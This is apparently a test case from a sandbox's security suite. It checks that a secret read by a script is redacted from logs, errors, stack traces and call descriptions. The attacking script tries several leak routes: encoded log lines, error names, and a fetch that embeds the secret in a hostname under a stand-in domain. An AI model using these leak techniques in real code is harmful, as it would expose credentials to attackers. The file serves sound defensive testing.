// A script that may read a secret and puts it wherever people look.
import * as assert from 'uvu/assert'
import { type Attack, script, ts } from './attack.ts'

export const attack = {
  title: 'a secret that a script reads does not show in its logs, its error, its stack, or what is said of its calls',
  threat: 'secrets',
  source: script(
    ts`async (_event: any, ctx: any) => {
  const secret = await ctx.secrets.get('READ')
  ctx.log.info(secret, { secret, [secret]: [1, { deep: ['x' + secret + 'y'] }] })
  ctx.log.warn('as base64 ' + btoa('user:' + secret) + ', in a URL ' + encodeURIComponent(secret) + ', as JSON ' + JSON.stringify({ secret }))
  console.error('by the console', secret)
  await ctx.kv.get(secret.repeat(20)).catch((error: any) => ctx.log.info(error.message))
  try { await ctx.secrets.get(secret) } catch (error: any) { ctx.log.info(error.message) }
  try { await ctx.http.fetch('http://' + secret + '.nowhere.example/') } catch (error: any) { ctx.log.info(error.message) }
  const named = { [secret]() { const error = new TypeError('it is ' + secret, { cause: new Error(secret) }); error.name = secret; (error as any).code = secret; throw error } }
  named[secret]()
}`,
    { needs: "{ kv: true, http: ['http://*.example'], secrets: { READ: 'read' } }" },
  ),
  policy: { allow: { kv: true, http: ['http://*.example'], secrets: { READ: 'read' } }, limits: { cpu: '5s' } },
  expect: {
    status: 'exception',
    check({ error, logs }) {
      assert.match(error?.message ?? '', 'it is [secret READ]')
      assert.ok(logs.length >= 5, `${logs.length} entries`)
      assert.match(JSON.stringify(logs), 'user:[secret READ]'.slice(5))
    },
  },
} satisfies Attack
